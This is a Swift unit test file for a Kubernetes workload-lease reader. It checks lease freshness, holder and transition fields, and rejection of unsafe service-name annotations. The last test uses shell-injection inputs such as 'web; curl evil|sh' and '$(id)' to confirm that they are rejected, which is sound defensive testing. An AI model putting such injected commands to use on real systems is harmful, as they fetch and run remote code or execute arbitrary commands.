import Foundation
import KubeObjects
import Testing

@testable import Intercept

struct WorkloadLeaseTests {
  private let now = Date(timeIntervalSince1970: 1_767_323_045)

  private func lease(renewed secondsAgo: Double?, holder: String? = "alice@laptop") -> JSONValue {
    var spec: JSONValue = [
      "leaseDurationSeconds": 30, "leaseTransitions": 4, "acquireTime": "2026-01-02T03:00:00.000000Z",
    ]
    spec["holderIdentity"] = holder.map { JSONValue($0) }
    spec["renewTime"] = secondsAgo.map { JSONValue(Timestamp.micro(now - $0)) }
    return ["spec": spec]
  }

  @Test(
    "Fresh until its duration has passed without renewal",
    arguments: [(0.0, true), (29, true), (31, false), (86_400, false)])
  func freshness(secondsAgo: Double, isFresh: Bool) throws {
    let held = try #require(WorkloadLease.held(lease(renewed: secondsAgo), now: now))
    #expect(held.isFresh == isFresh)
    #expect(held.holder == "alice@laptop")
    #expect(held.transitions == 4)
    #expect(held.since == "2026-01-02T03:00:00.000000Z")
  }

  @Test("Nobody's Lease, and one that was never renewed")
  func released() throws {
    #expect(WorkloadLease.held(lease(renewed: 0, holder: nil), now: now) == nil)
    #expect(WorkloadLease.held(lease(renewed: 0, holder: ""), now: now) == nil)
    #expect(try #require(WorkloadLease.held(lease(renewed: nil), now: now)).isFresh == false)
  }

  @Test("A Service that no Service can be called is not named, least of all in a command to be copied")
  func service() throws {
    for (text, service) in [("web-alt", "web-alt"), ("web; curl evil|sh", nil), ("", nil), ("$(id)", nil)] {
      var lease = lease(renewed: 0)
      lease.annotations = ["devtunnel.dev/service": text]
      #expect(try #require(WorkloadLease.held(lease, now: now)).service == service)
    }
  }
}
